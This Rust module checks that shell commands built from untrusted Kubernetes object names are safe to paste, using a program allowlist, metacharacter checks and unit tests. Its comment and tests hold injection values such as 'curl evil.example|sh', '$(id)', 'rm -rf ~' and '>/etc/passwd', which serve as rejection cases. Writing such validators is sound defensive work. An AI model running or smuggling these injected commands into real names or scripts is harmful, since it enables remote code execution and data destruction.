//! Commands that a person may paste. Names come from outside: a dump can call a pod `x; curl evil|sh`.

/// Programs that our commands run; nothing else may begin one, nor stand behind an operator.
const PROGRAMS: &[&str] = &[
    "base64",
    "cat",
    "crictl",
    "docker",
    "dmesg",
    "etcdctl",
    "getent",
    "grep",
    "head",
    "helm",
    "journalctl",
    "jq",
    "kubectl",
    "nc",
    "openssl",
    "sed",
    "sonde",
    "sort",
    "ssh",
    "sudo",
    "systemctl",
    "tail",
    "tar",
    "wc",
    "xargs",
];
/// Operators of the shell, each a word of its own.
const OPERATORS: &[&str] = &["|", "||", "&&", ";"];
/// Redirections that change nothing.
const REDIRECTIONS: &[&str] = &["</dev/null", "2>/dev/null", "2>&1"];
/// What a shell acts on within a word.
const ACTS: &[char] = &[';', '|', '&', '$', '`', '<', '>', '(', ')', '\\', '#', '!', '~'];

/// The command without `-n` and `-c` that have no value (a text may name neither namespace nor container, and kubectl has
/// defaults for both); `None` where a shell would make more of it than its template meant.
pub(crate) fn pasteable(command: &str) -> Option<String> {
    let safe = safe(command);
    // Scenes have plain names: what is refused there is a template that uses something new.
    #[cfg(test)]
    assert!(
        safe || HOSTILE.iter().any(|word| command.contains(word)),
        "no command any more: {command}"
    );
    safe.then(|| without_empty_flags(command))
}

/// Marks of names that a test takes to be hostile.
#[cfg(test)]
const HOSTILE: &[&str] = &["evil", "$(id)", "`id`", "|sh", "rm -rf", ">/etc", "x\\", "NAME'"];

fn safe(command: &str) -> bool {
    let Some(words) = words(command) else { return false };
    let mut at_start = true;
    for (word, quoted) in &words {
        if OPERATORS.contains(&word.as_str()) && !quoted {
            at_start = true;
            continue;
        }
        if at_start && !PROGRAMS.contains(&word.as_str()) {
            return false;
        }
        at_start = false;
        if !quoted && word.contains(ACTS) && !REDIRECTIONS.contains(&word.as_str()) {
            return false;
        }
    }
    true
}

/// The words of a command as a shell splits them, with whether a part of the word stood in quotes; `None` where a quote
/// does not end or holds what a shell acts on.
fn words(command: &str) -> Option<Vec<(String, bool)>> {
    let mut words = Vec::new();
    let (mut word, mut bare, mut quoted, mut open) = (String::new(), String::new(), false, false);
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            // At the end of a word it is an operator, as it is alone.
            ';' if open && chars.peek() == Some(&' ') => {
                words.push((std::mem::take(&mut word), quoted && !bare.contains(ACTS)));
                words.push((";".to_owned(), false));
                (quoted, open) = (false, false);
                bare.clear();
            }
            ' ' => {
                if open {
                    words.push((std::mem::take(&mut word), quoted && !bare.contains(ACTS)));
                }
                (quoted, open) = (false, false);
                bare.clear();
            }
            '\'' | '"' => {
                (quoted, open) = (true, true);
                loop {
                    match chars.next()? {
                        end if end == c => break,
                        '$' | '`' | '\\' if c == '"' => return None,
                        '\n' | '\r' => return None,
                        inner => word.push(inner),
                    }
                }
            }
            c if c.is_control() => return None,
            c => {
                open = true;
                word.push(c);
                bare.push(c);
            }
        }
    }
    if open {
        words.push((word, quoted && !bare.contains(ACTS)));
    }
    Some(words)
}

fn without_empty_flags(command: &str) -> String {
    let words: Vec<&str> = command.split(' ').collect();
    let mut kept: Vec<&str> = Vec::with_capacity(words.len());
    let mut words = words.into_iter().peekable();
    while let Some(word) = words.next() {
        let no_value = matches!(words.peek(), None | Some(&""));
        if matches!(word, "-n" | "-c") && no_value {
            words.next();
        } else {
            kept.push(word);
        }
    }
    kept.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_without_a_value_are_dropped() {
        for (command, expect) in [
            ("kubectl logs x -n  -c app", "kubectl logs x -c app"),
            ("kubectl logs x -n shop -c ", "kubectl logs x -n shop"),
            (
                "kubectl patch x -n  -p '{\"a\":  1}'",
                "kubectl patch x -p '{\"a\":  1}'",
            ),
            ("kubectl get pods -n", "kubectl get pods"),
        ] {
            assert_eq!(pasteable(command).as_deref(), Some(expect));
        }
    }

    #[test]
    fn our_own_templates_stay() {
        for command in [
            "docker create --name look app:1 x && docker export look | tar t | grep '^app' ; docker rm look",
            "openssl s_client -connect r:443 -servername r </dev/null 2>/dev/null | openssl x509 -noout -dates",
            "kubectl get --raw \"/api/v1/nodes/n1/proxy/logs/?query=kubelet&sinceTime=2026-03-01T11:50:00Z\"",
            "ssh n1 'systemctl status kubelet; journalctl -u kubelet -n 50'",
            "kubectl get pods -A -l 'app in (a,b)' -o custom-columns=A:.webhooks[*].name",
            "kubectl auth can-i list pods --as=system:serviceaccount:shop:default",
        ] {
            assert_eq!(pasteable(command).as_deref(), Some(command));
        }
    }

    #[test]
    fn names_that_a_shell_acts_on_give_no_command() {
        for name in [
            "app-1;curl evil.example|sh;#",
            "x$(id)",
            "x`id`",
            "x|sh",
            "x ; curl evil.example",
            "x && rm -rf ~",
            "x>/etc/passwd",
            "x\nrm -rf .",
            "x\\",
        ] {
            for template in [
                "kubectl logs NAME -n shop",
                "ssh NAME 'uptime'",
                "kubectl get pod -l 'app=NAME'",
            ] {
                let command = template.replace("NAME", name);
                let quoted_well = template.contains("'app=NAME'") && !name.contains(['\'', '\n']);
                assert_eq!(pasteable(&command).is_some(), quoted_well, "{command}");
            }
        }
        // A quote in a name closes ours; where none is open it only makes one odd word.
        assert_eq!(
            pasteable("kubectl get pod -l 'app=x'; curl evil.example; ''"),
            None
        );
        assert!(pasteable("kubectl logs x'; curl evil.example; '").is_some());
    }
}
